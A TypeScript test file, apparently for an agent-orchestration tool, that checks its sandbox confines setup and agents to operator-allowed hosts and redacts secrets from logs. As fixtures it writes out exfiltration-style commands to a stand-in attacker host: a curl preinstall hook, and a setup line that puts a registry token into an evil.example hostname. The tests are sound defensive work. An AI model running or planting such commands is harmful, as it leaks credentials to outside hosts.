/** What setup and agents may reach, as an operator says it and as a run tells it. */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import type { Reached } from '@swarm/core/ports/running';
import { modelEnvironment } from './support/bicycle.ts';
import { bash, planOf, submit, task as taskOf } from './support/harness.ts';
import { type Move, startWindowServer } from './support/window-server.ts';
import { contained, World } from './support/world.ts';

/** A server on an address of this machine that nothing takes for itself. Returns its `host:port`. */
async function site(t: TestContext, answer = 'the docs\n'): Promise<string> {
  const server: Server = createServer((_, got) => got.end(answer));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
  t.after(() => server.close());
  return `127.0.0.2:${(server.address() as AddressInfo).port}`;
}

test(
  'a host that setup may not reach is told with the line that lets it, and with that line it is reached',
  contained,
  async (t) => {
    const host = await site(t);
    const world = await World.with(t, { 'README.md': 'shop\n' });
    const task = { title: 'Write a', description: 'cat docs > a.txt' };
    const words = ['--setup', `curl -sSf http://${host}/ > docs`, '--gate', 'test -f docs'] as const;
    const refused = await world.swarm(await world.plan([task], ...words));
    assert.equal(refused.code, 78, refused.stderr);
    const line = `egress = ["${host}"]`;
    assert.ok(
      refused.stderr.includes(
        `asked for ${host}, which it may not reach; where it should, add to [sandbox] in`,
      ),
    );
    assert.ok(refused.stderr.includes(line), refused.stderr);
    const told = (await world.log()).find(({ event }) => event === 'setup.ended');
    assert.deepEqual(told?.data.refused, [host]);
    assert.ok(told?.msg.includes(line));

    await world.configure(`[sandbox]\n${line}`);
    const run = await world.swarm(await world.plan([task], ...words));
    assert.equal(run.code, 0, run.stderr);
    const [, branch] = /refs\/heads\/(swarm\/[\w-]+)/.exec(run.stderr) ?? [];
    assert.equal(await world.git('show', `${branch}:a.txt`), 'the docs');
  },
);

test('init --run-gate ends with the line for what setup asked for', contained, async (t) => {
  const world = await World.with(t, {
    'package.json': JSON.stringify({
      scripts: { test: 'test -f package.json', preinstall: 'curl -sf http://evil.example/' },
    }),
    'package-lock.json': '{"lockfileVersion":3,"packages":{}}\n',
  });
  const ended = await world.swarm(['init', '--yes', '--run-gate']);
  assert.equal(ended.code, 78, ended.stderr);
  assert.match(ended.stderr, /fix: it asked for evil\.example:80, which[^\n]*egress = \["evil\.example"\]/);
});

const ASKS = (host: string): string =>
  `curl -s http://${host}/ > reached.txt || true; curl -s http://evil.example/ > refused.txt || true`;

test(
  'agents reach what the operator names for them and no more, gate and verify nothing, and it is told',
  contained,
  async (t) => {
    const host = await site(t);
    const world = await World.with(t, { 'README.md': 'shop\n' });
    await world.configure(`[sandbox]\nagent_egress = ["${host}"]`);
    const none = `test -z "$HTTPS_PROXY" && ! curl -s http://${host}/ && test ! -e /run/swarm/egress.sock`;
    const task = { title: 'Read', description: ASKS(host), verify: none };
    const run = await world.swarm(await world.plan([task], '--gate', none));
    assert.equal(run.code, 0, run.stderr);
    const shown = async (name: string) => world.git('show', `${await world.branch()}:${name}`);
    assert.equal(await shown('reached.txt'), 'the docs');
    assert.match(
      await shown('refused.txt'),
      /^swarm: evil\.example:80 is not among the hosts that may be reached/,
    );
    const told = (await world.log()).filter(({ event }) => event === 'agent.reached');
    assert.equal(told.length, 1);
    assert.deepEqual(
      (told[0]!.data.reached as Reached[]).map(({ authority: name, requests, refused }) => [
        name,
        requests,
        refused,
      ]),
      [
        [host, 1, 0],
        ['evil.example:80', 0, 1],
      ],
    );
  },
);

test('without such hosts an agent has no way out at all, whatever setup has', contained, async (t) => {
  const host = await site(t);
  const world = await World.with(t, { 'README.md': 'shop\n' });
  await world.configure(`[sandbox]\negress = ["*", "${host}"]`);
  const task = { title: 'Read', description: `env > env.txt; ${ASKS(host)}` };
  const run = await world.swarm(await world.plan([task], '--gate', 'true'));
  assert.equal(run.code, 0, run.stderr);
  const shown = async (name: string) => world.git('show', `${await world.branch()}:${name}`);
  assert.doesNotMatch(await shown('env.txt'), /PROXY/);
  assert.equal(await shown('reached.txt'), '');
});

test('a repository names no host for anybody until it is trusted', async (t) => {
  for (const key of ['egress', 'agent_egress']) {
    const world = await World.with(t, { 'swarm.toml': `[sandbox]\n${key} = ["evil.example"]\n` });
    const run = await world.swarm(await world.plan([{ title: 'A', description: 'true' }], '--gate', 'true'));
    assert.equal(run.code, 78, run.stderr);
    assert.match(run.stderr, /SW0309[\s\S]*wants to choose sandbox/);
  }
});

test('where the sandbox keeps no way out, that is said before anything runs', async (t) => {
  const world = await World.with(t, { 'README.md': 'shop\n' });
  await world.configure('[sandbox]\nagent_egress = ["docs.rs"]');
  const task = { title: 'Write a', description: 'echo a > a.txt' };
  const run = await world.swarm(await world.plan([task], '--gate', 'true', '--sandbox', 'none'));
  assert.equal(run.code, 0, run.stderr);
  assert.match(
    run.stderr,
    /agent_egress is not kept under none: agents reach everything you can reach[\s\S]*opened/,
  );
});

test(
  'the built-in agent is told what it may reach, reaches it by its tools, and its model by no proxy',
  contained,
  async (t) => {
    const host = await site(t);
    const world = await World.with(t, { 'README.md': 'shop\n' });
    await world.configure(`[sandbox]\nagent_egress = ["${host}"]`);
    const server = await startWindowServer(
      t,
      100_000,
      () => 'too long',
      planOf(taskOf('a')),
      ({ step }): Move => (step === 0 ? bash(`curl -sSf http://${host}/ > a.txt`) : submit()),
    );
    const words = ['run', 'Add a', '--setup', 'none', '--gate', 'true', '--workers', '1'];
    const run = await world.swarm(words, { env: modelEnvironment(server.url) });
    assert.equal(run.code, 0, run.stderr);
    assert.equal(await world.git('show', `${await world.branch()}:a.txt`), 'the docs');
    const said = server.taken
      .at(-1)!
      .map(({ content }) => content ?? '')
      .join('\n');
    assert.ok(said.includes(`Network: agents reach ${host} by the proxy`), said);
    const told = (await world.log()).filter(({ event }) => event === 'agent.reached');
    assert.deepEqual(
      told.flatMap(({ data }) => (data.reached as Reached[]).map((one) => one.authority)),
      [host],
      'its model is not among them',
    );
  },
);

test(
  'a token that setup asks for as a part of a host is taken out before it is told or written down',
  contained,
  async (t) => {
    const token = 'Registry-Token-9F8E7D6C';
    const world = await World.with(t, { 'README.md': 'shop\n' });
    await world.configure('[sandbox]\nsetup_env = ["REGISTRY_TOKEN"]');
    const setup = 'curl -s http://$REGISTRY_TOKEN.evil.example/; exit 3';
    const words = await world.plan([{ title: 'A', description: 'true' }], '--setup', setup, '--gate', 'true');
    const run = await world.swarm(words, { env: { REGISTRY_TOKEN: token } });
    assert.equal(run.code, 78, run.stderr);
    assert.match(run.stderr, /asked for \[redacted\]\.evil\.example:80/);
    const folder = await world.runFolder();
    const texts = ['journal.ndjson', 'log.ndjson', 'report.json'].map((file) =>
      readFile(join(folder, file), 'utf8'),
    );
    for (const text of [run.stderr, ...(await Promise.all(texts))])
      assert.doesNotMatch(text, new RegExp(token, 'i'));
  },
);
